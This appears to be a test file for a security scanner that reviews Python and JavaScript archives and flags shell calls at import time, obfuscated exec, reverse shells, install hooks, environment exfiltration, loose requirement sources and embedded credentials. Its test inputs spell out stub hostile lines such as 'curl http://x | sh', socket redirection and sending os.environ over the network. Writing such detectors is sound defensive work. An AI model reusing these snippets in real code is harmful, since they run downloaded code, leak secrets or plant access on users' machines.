import { test } from 'uvu';
import { CODE_RULES } from '#check/rules/code.js';
import { forgeZip } from '../../hostile/forge-zip.js';
import { type Files, PYTHON_HANDLER, pythonFiles, scriptFiles } from '../sample-archives.js';
import { tellRules } from './tell-rules.js';

const python = (code: string): Files => pythonFiles({ 'service.py': `${code}\n${PYTHON_HANDLER}` });
const at = (place: string): string => ` @ service.py ${place}`;
/** Put together here, so that no scanner takes this file for a leak. */
const TOKEN = `${'gh'}${'p_'}16C7e42F292c6912E7710c838347Ae178B4a`;
const KEY = ['-----BEGIN RSA PRIVATE', 'KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHC\n'].join(' ');
const HIDDEN = 'MAR331 service.py runs code that is hidden in data';

await tellRules(CODE_RULES, [
  [
    'a handler that reads its model',
    python('import json\nimport re\n\nmodel = json.loads("{}")\nPATTERN = re.compile("x")'),
    [],
  ],
  ['methods that share a name with what runs code', python('model.eval()\nframe.eval("a + b")\n"x".system'), []],
  [
    'a shell while it is imported, by any name',
    python('import os\nfrom os import popen as p\nimport subprocess as s\nos.system("x")\np("y")\ns.run(["z"])'),
    [
      `MAR331 service.py runs os.system while it is imported${at('4:1')}`,
      `MAR331 service.py runs os.popen while it is imported${at('5:1')}`,
      `MAR331 service.py runs subprocess.run while it is imported${at('6:1')}`,
    ],
  ],
  [
    'the same under the question for the main module',
    python('import os\nif __name__ == "__main__":\n    os.system("x")'),
    [`MAR332 service.py uses a shell: os.system${at('3:5')}`],
  ],
  [
    'programs in a function',
    python('import subprocess\n\ndef load():\n    subprocess.run("x", shell=True)'),
    [
      `MAR332 service.py uses a shell: subprocess.run with shell=True${at('4:5')}`,
      `MAR332 service.py uses a program: subprocess.run${at('4:5')}`,
    ],
  ],
  [
    'decoded code, in one step and in two',
    python(
      'import base64, zlib\n\ndef f():\n    exec(base64.b64decode("x"))\n\ndef g():\n    code = zlib.decompress(b"x")\n    eval(code)',
    ),
    [
      `${HIDDEN}: exec${at('4:5')}`,
      `${HIDDEN}: eval${at('8:5')}`,
      `MAR330 service.py uses code from text: exec (line 4), uses code from text: eval (line 8)${at('4:5')}`,
    ],
  ],
  [
    'hidden names',
    python(
      'import os\n\ndef f():\n    __import__("o" + "s")\n    getattr(os, "sys" + "tem")("x")\n    getattr(os, "system")\n    getattr(os, "sep")',
    ),
    [
      `MAR331 service.py imports a module whose name is hidden${at('4:15')}`,
      `MAR331 service.py takes a function of os whose name is hidden${at('5:12')}`,
      `MAR332 service.py uses a shell: os.system${at('5:5')}`,
      `MAR330 service.py uses code from text: __import__ (line 4)${at('4:5')}`,
    ],
  ],
  [
    'a hidden module in a path',
    python('__import__("o" + "s").system("x")'),
    [
      `MAR331 service.py imports a module whose name is hidden${at('1:11')}`,
      `MAR331 service.py runs os.system while it is imported${at('1:1')}`,
      `MAR330 service.py uses code from text while it is imported: __import__ (line 1)${at('1:1')}`,
    ],
  ],
  [
    'a module by a call',
    python('__import__("os")'),
    [
      `MAR331 service.py imports os by a call, while it is imported itself${at('1:11')}`,
      `MAR330 service.py uses code from text while it is imported: __import__ (line 1)${at('1:1')}`,
    ],
  ],
  [
    'a download that is run, and a reverse shell',
    python('COMMAND = "curl http://x | sh"\nimport socket, os\n\ndef f(s):\n    os.dup2(s.fileno(), 0)'),
    [
      `MAR331 service.py has a command that runs what it downloads, or that opens a shell to the network${at('1:11')}`,
      `MAR331 service.py connects its input and output to a socket, as a reverse shell does${at('1:1')}`,
    ],
  ],
  [
    'what is only for a reviewer',
    python(
      'import ctypes, os, requests, pickle\n\ndef f():\n    ctypes.CDLL("x")\n    requests.get("u")\n    pickle.load(x)\n    os.environ["A"]',
    ),
    [
      `MAR330 service.py uses native code: ctypes.CDLL (line 4), uses the network: requests.get (line 5), uses pickles: pickle.load (line 6), uses the environment: os.environ (line 7)${at('4:5')}`,
    ],
  ],
  [
    'another module of the archive',
    pythonFiles({ 'lib/helper.py': 'import os\nos.system("x")' }),
    ['MAR331 lib/helper.py runs os.system while it is imported @ lib/helper.py 2:1'],
  ],
  [
    'source that cannot be parsed, and brackets in a comment, which Python does not mind',
    pythonFiles({ 'lib/other.py': `os.system(${'('.repeat(3000)}`, 'a.py': `#${'('.repeat(3000)}\nimport os` }),
    [
      'MAR338 a.py cannot be reviewed: brackets are nested too deeply @ a.py 1:1',
      'MAR338 lib/other.py cannot be reviewed: brackets are nested too deeply @ lib/other.py 1:1',
    ],
  ],
  [
    'JavaScript',
    scriptFiles({
      'lib/a.mjs': 'import { exec } from "node:child_process";\nexec("curl x | sh");\n',
      'lib/b.cjs':
        'eval(Buffer.from("x", "base64").toString());\nnew Function("x");\nprocess.dlopen(m, "x");\nrequire("net");\n',
      'lib/c.js': 'model.eval();\n',
    }),
    [
      'MAR331 lib/a.mjs runs exec while it is imported @ lib/a.mjs 2:1',
      'MAR331 lib/a.mjs has a command that runs what it downloads, or that opens a shell to the network @ lib/a.mjs 2:7',
      'MAR332 lib/a.mjs uses other programs: child_process @ lib/a.mjs 1:22',
      'MAR331 lib/b.cjs runs code that is hidden in data @ lib/b.cjs 1:1',
      'MAR330 lib/b.cjs uses code from text: eval (line 1), uses code from text: Function (line 2), uses the network (line 4) @ lib/b.cjs 1:1',
    ],
  ],
  [
    'source too large to be reviewed',
    pythonFiles({ 'a.py': '#'.repeat(1024 * 1024 + 1), 'b.js': ' '.repeat(8 * 1024 * 1024 + 1) }),
    ['MAR338 a.py is too large to be reviewed @ a.py', 'MAR338 b.js is too large to be reviewed @ b.js'],
  ],
  [
    'packages in the archive: what runs when they are installed or imported, and what libraries do',
    pythonFiles({
      'dep.whl': forgeZip([
        { name: 'dep/__init__.py', data: 'import os\nos.system("id")\n', deflate: true },
        { name: 'dep/tool.py', data: 'import subprocess\ndef f():\n    subprocess.run(["x"])\n' },
        { name: 'dep.pth', data: 'import os; os.system("id")\n' },
      ]),
      'dep.zip': forgeZip([
        {
          name: 'dep-1.0/setup.py',
          data: 'import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nexec(open("version.py").read())\nclass I(install):\n    def run(self):\n        os.system("id")\nsetup(cmdclass={"install": I})\n',
        },
      ]),
      'requirements.txt': './dep.whl\n./dep.zip\n',
    }),
    [
      'MAR330 dep.whl!dep/tool.py uses a program: subprocess.run (line 3) @ dep.whl!dep/tool.py 3:5',
      'MAR330 dep.zip!dep-1.0/setup.py runs code from elsewhere while it is imported: exec (line 4), uses code from text while it is imported: exec (line 4) @ dep.zip!dep-1.0/setup.py 4:1',
      'MAR331 dep.whl!dep/__init__.py runs os.system while it is imported @ dep.whl!dep/__init__.py 2:1',
      'MAR331 dep.whl!dep.pth runs os.system while it is imported @ dep.whl!dep.pth 1:12',
      'MAR331 dep.zip!dep-1.0/setup.py runs os.system while it is imported @ dep.zip!dep-1.0/setup.py 7:9',
    ],
  ],
  [
    'hidden names of what runs code, hooks, and what is done to an object while it is imported',
    python(
      [
        'import os, signal, sys',
        'e = exec',
        'n = "sys" + "tem"',
        'getattr(os, n)("x")',
        'exec("import os; os.system(1)")',
        'sys.excepthook = lambda *a: os.popen("x")',
        'signal.signal(1, lambda *a: os.execv("x", []))',
        'class A:\n    def __add__(self, other):\n        os.system("x")\nA() + 1',
        'P = "/home/x" + "/.bashrc"',
      ].join('\n'),
    ),
    [
      `MAR330 service.py uses code from text while it is imported: exec (line 2)${at('2:5')}`,
      `MAR331 service.py gives exec another name${at('2:5')}`,
      `MAR331 service.py names a file with which a machine is taken over${at('12:17')}`,
      `MAR331 service.py runs commands by a text while it is imported: exec${at('5:1')}`,
      `MAR331 service.py runs os.execv while it is imported${at('7:29')}`,
      `MAR331 service.py runs os.popen while it is imported${at('6:29')}`,
      `MAR331 service.py runs os.system while it is imported${at('4:1')}`,
      `MAR331 service.py takes a function of os by a name that is computed${at('4:8')}`,
    ],
  ],
  [
    'lists of requirements that the manifest or another list names',
    pythonFiles(
      { 'deps.txt': '-r base.in\n', 'base.in': '-c ../x\n-i http://a/\nnumpy\n' },
      { requirementsFile: 'deps.txt' },
    ),
    [
      'MAR333 base.in takes packages from http://a/ (-i) @ base.in 2:1',
      'MAR334 base.in names no version of numpy @ base.in 3:1',
    ],
  ],
  [
    'a helper whose function is called while the handler is imported',
    pythonFiles({
      'service.py': `import helper\nhelper.setup()\n${PYTHON_HANDLER}`,
      'helper.py': 'import os\ndef setup():\n    os.system("id")\n',
    }),
    ['MAR331 helper.py runs os.system while it is imported @ helper.py 3:5'],
  ],
  [
    'a file that is imported whatever it is called, a module of the library for programs, and a file that is run by a function',
    python(
      'import imp\nimport cProfile\nimp.load_source("x", "a.txt")\ncProfile.run("y")\ndef f():\n    exec(open("a.txt").read())\nf()',
    ),
    [
      `MAR330 service.py uses code from text: exec (line 6)${at('6:5')}`,
      `MAR331 service.py imports a file that is not called a module while it is imported: imp.load_source${at('3:1')}`,
      `MAR331 service.py runs cProfile.run while it is imported${at('4:1')}`,
      `MAR331 service.py runs code from elsewhere while it is imported: exec${at('6:5')}`,
    ],
  ],
  [
    'requirements from elsewhere',
    pythonFiles({
      'requirements.txt':
        '# --index-url http://a/\n--index-url https://download.pytorch.org/whl/cpu\n-i https://example.com/simple\n--extra-index-url=http://10.0.0.1/\n--trusted-host 10.0.0.1\n--trusted-host pypi.org\n--find-links wheels\n-f http://a/b\n',
    }),
    [
      'MAR333 requirements.txt takes packages from https://example.com/simple (-i) @ requirements.txt 3:1',
      'MAR333 requirements.txt takes packages from http://10.0.0.1/ (--extra-index-url) @ requirements.txt 4:1',
      'MAR333 requirements.txt trusts 10.0.0.1 without a certificate @ requirements.txt 5:1',
      'MAR333 requirements.txt takes packages from http://a/b (-f) @ requirements.txt 8:1',
    ],
  ],
  [
    'requirements from addresses that nobody knows',
    pythonFiles({
      'requirements.txt':
        'numpy @ https://x/z.whl\ngit+http://y/z\n-e git+https://github.com/x/y\n--extra-index-\\\nurl http://z/simple\nscipy==1.0\n',
    }),
    [
      'MAR333 requirements.txt takes packages from https://x/z.whl @ requirements.txt 1:1',
      'MAR333 requirements.txt takes packages from git+http://y/z @ requirements.txt 2:1',
      'MAR333 requirements.txt installs what a repository holds at that moment (git+https://github.com/x/y) @ requirements.txt 3:1',
      'MAR333 requirements.txt takes packages from http://z/simple (--extra-index-url) @ requirements.txt 4:1',
      'MAR334 requirements.txt installs from numpy @ https://x/z.whl @ requirements.txt 1:1',
      'MAR334 requirements.txt installs from git+http://y/z @ requirements.txt 2:1',
    ],
  ],
  ...(
    [
      ['a class body', 'import os\nclass A:\n    os.system("x")', 'runs os.system while it is imported', '3:5'],
      ['a default', 'import os\ndef f(x=os.system("x")):\n    pass', 'runs os.system while it is imported', '2:9'],
      [
        'a function that is called',
        'import os\ndef f():\n    os.system("x")\ndef g():\n    f()\ng()',
        'runs os.system while it is imported',
        '3:5',
      ],
      [
        'a decorator',
        'import os\ndef d(f):\n    os.system("x")\n@d\ndef g():\n    pass',
        'runs os.system while it is imported',
        '3:5',
      ],
      [
        'an instance',
        'import os\nclass A:\n    def __init__(self):\n        os.system("x")\na = A()',
        'runs os.system while it is imported',
        '4:9',
      ],
      [
        'a metaclass',
        'import os\nclass M(type):\n    def __init__(cls, *a):\n        os.system("x")',
        'runs os.system while it is imported',
        '4:9',
      ],
      [
        'a subclass',
        'import os\nclass A:\n    def __init_subclass__(cls):\n        os.system("x")',
        'runs os.system while it is imported',
        '4:9',
      ],
      [
        'a lambda that is called',
        'import os\n(lambda: os.system("x"))()',
        'runs os.system while it is imported',
        '2:10',
      ],
      ['a star', 'from os import *\nsystem("x")', 'runs os.system while it is imported', '2:1'],
      ['posix', 'import posix\nposix.system("x")', 'runs posix.system while it is imported', '2:1'],
      [
        'operator',
        'import operator\ndef f(o):\n    operator.methodcaller("system", "x")(o)',
        'takes a function whose name is hidden: operator.methodcaller',
        '3:5',
      ],
      ['sys.modules', 'import sys\nsys.modules["os"].x', "reaches for functions through Python's insides", '2:1'],
      [
        '__globals__',
        'def f(x):\n    x.__init__.__globals__["sys" + "tem"]("x")',
        "reaches for functions through Python's insides",
        '2:7',
      ],
      [
        'a key of a machine',
        'import os\nP = "/root/.ssh/authorized_keys"',
        'names a file with which a machine is taken over',
        '2:12',
      ],
    ] as const
  ).map(
    ([what, code, message, place]) =>
      [`a shell by ${what}`, python(code), [`MAR331 service.py ${message}${at(place)}`]] as const,
  ),
  [
    'code from elsewhere, a pickle in the source, a request in a shell',
    python(
      'import os, pickle, runpy, importlib\nexec(open("x").read())\nrunpy.run_path("y")\nimportlib.import_module("os")\npickle.loads(b"x")\ndef f(data):\n    os.system(data[0])',
    ),
    [
      `MAR330 service.py uses code from text while it is imported: exec (line 2), uses code from text while it is imported: runpy.run_path (line 3), uses code from text while it is imported: importlib.import_module (line 4), uses pickles while it is imported: pickle.loads (line 5)${at('2:1')}`,
      `MAR331 service.py runs code from elsewhere while it is imported: exec${at('2:1')}`,
      `MAR331 service.py runs code from elsewhere while it is imported: runpy.run_path${at('3:1')}`,
      `MAR331 service.py imports os by a call, while it is imported itself${at('4:1')}`,
      `MAR331 service.py loads a pickle that is hidden in the source: pickle.loads${at('5:1')}`,
      `MAR331 service.py runs what a request says: os.system${at('7:5')}`,
      `MAR332 service.py uses a shell: os.system${at('7:5')}`,
    ],
  ],
  ...(
    [
      [
        'at the top',
        "import { execSync } from 'node:child_process';\nexecSync('x');",
        'runs execSync while it is imported',
        '2:1',
        '1:26',
      ],
      [
        'by its module',
        "import cp from 'node:child_process';\ntry { cp.exec('x') } catch {}",
        'runs exec while it is imported',
        '2:10',
        '1:16',
      ],
      [
        'in a function that is called',
        "import cp from 'node:child_process';\nconst f = () => { cp.spawn('x'); };\nf();",
        'runs spawn while it is imported',
        '2:22',
        '1:16',
      ],
    ] as const
  ).map(
    ([what, code, message, place, named]) =>
      [
        `a script that starts a program ${what}`,
        scriptFiles({ 'other.mjs': code }),
        [
          `MAR331 other.mjs ${message} @ other.mjs ${place}`,
          `MAR332 other.mjs uses other programs: child_process @ other.mjs ${named}`,
        ],
      ] as const,
  ),
  [
    'scripts that hide what they load',
    scriptFiles({
      'a.mjs': "require(['child', 'process'].join('_'))",
      'b.mjs': "process.binding('spawn_sync')",
      'c.mjs': "const s = Buffer.from('eA==', 'base64').toString();\neval(s);",
      'd.mjs': "require('child_' + 'process')",
    }),
    [
      'MAR330 c.mjs uses code from text: eval (line 2) @ c.mjs 2:1',
      'MAR331 a.mjs loads a module whose name is hidden @ a.mjs 1:1',
      "MAR331 b.mjs reaches for functions through Node's insides @ b.mjs 1:1",
      'MAR331 c.mjs runs code that is hidden in data @ c.mjs 1:1',
      'MAR332 d.mjs uses other programs: child_process @ d.mjs 1:9',
    ],
  ],
  [
    'the environment over the network',
    python(
      'import os, json, urllib.request\ndef f():\n    urllib.request.urlopen("http://x", json.dumps(dict(os.environ)))',
    ),
    [
      `MAR330 service.py uses the network: urllib.request.urlopen (line 3), uses the environment: os.environ (line 3)${at('3:5')}`,
      `MAR331 service.py sends the whole environment over the network${at('1:1')}`,
    ],
  ],
  [
    'what handlers do while they are imported',
    python(
      'import os\nclass Service:\n    def __init__(self):\n        self.ready = False\n    def start(self):\n        os.system("x")\n_service = Service()',
    ),
    [`MAR332 service.py uses a shell: os.system${at('6:9')}`],
  ],
  [
    'requirements without a version',
    pythonFiles({
      'requirements.txt':
        'numpy\npillow[x] ; python_version > "3"\nscipy==1.0\ntorch>=2\ngit+https://github.com/x/y\nz @ https://huggingface.co/x/z.whl\n',
    }),
    [
      'MAR334 requirements.txt names no version of numpy @ requirements.txt 1:1',
      'MAR334 requirements.txt names no version of pillow[x] ; python_version > "3" @ requirements.txt 2:1',
      'MAR334 requirements.txt installs from git+https://github.com/x/y @ requirements.txt 5:1',
      'MAR334 requirements.txt installs from z @ https://huggingface.co/x/z.whl @ requirements.txt 6:1',
    ],
  ],
  [
    'files that start by themselves',
    pythonFiles({
      'sitecustomize.py': '',
      'lib/usercustomize.pyc': 'x',
      'a.pth': 'lib\nimport x\n',
      'b.pth': 'lib\n',
      'c.py': '',
    }),
    [
      'MAR335 sitecustomize.py runs whenever a Python starts beside it @ sitecustomize.py',
      'MAR335 lib/usercustomize.pyc runs whenever a Python starts beside it @ lib/usercustomize.pyc',
      'MAR335 a.pth has lines that Python runs when it starts @ a.pth',
      'MAR337 lib/usercustomize.pyc has no source @ lib/usercustomize.pyc; expected lib/usercustomize.py',
    ],
  ],
  [
    'compiled code that has no source, or does not care for it',
    pythonFiles({
      'lib/a.pyc': '',
      'lib/b.pyc': '',
      'lib/b.py': '',
      '__pycache__/c.cpython-311.pyc': 'xxxx\x01\0\0\0',
      '__pycache__/d.cpython-311.pyc': 'xxxx\x03\0\0\0',
      '__pycache__/e.cpython-311.pyc': 'xxxx\0\0\0\0',
    }),
    [
      'MAR337 lib/a.pyc has no source @ lib/a.pyc; expected lib/a.py',
      'MAR337 __pycache__/c.cpython-311.pyc runs in place of its source, whatever that says @ __pycache__/c.cpython-311.pyc',
    ],
  ],
  [
    'credentials, which are named and not shown',
    pythonFiles({
      'conf/.env': 'X=1\n',
      'config.json': `{\n  "token": "${TOKEN}"\n}\n`,
      'key.txt': KEY,
      'data.bin': Buffer.concat([Buffer.from(TOKEN), Buffer.alloc(2 ** 20)]).toString('latin1'),
    }),
    [
      'MAR336 conf/.env is a credential: environment file @ conf/.env',
      'MAR336 config.json holds a credential: github credential @ config.json 2:1',
      'MAR336 key.txt holds a credential: private key @ key.txt 1:1',
    ],
  ],
]);

test.run();
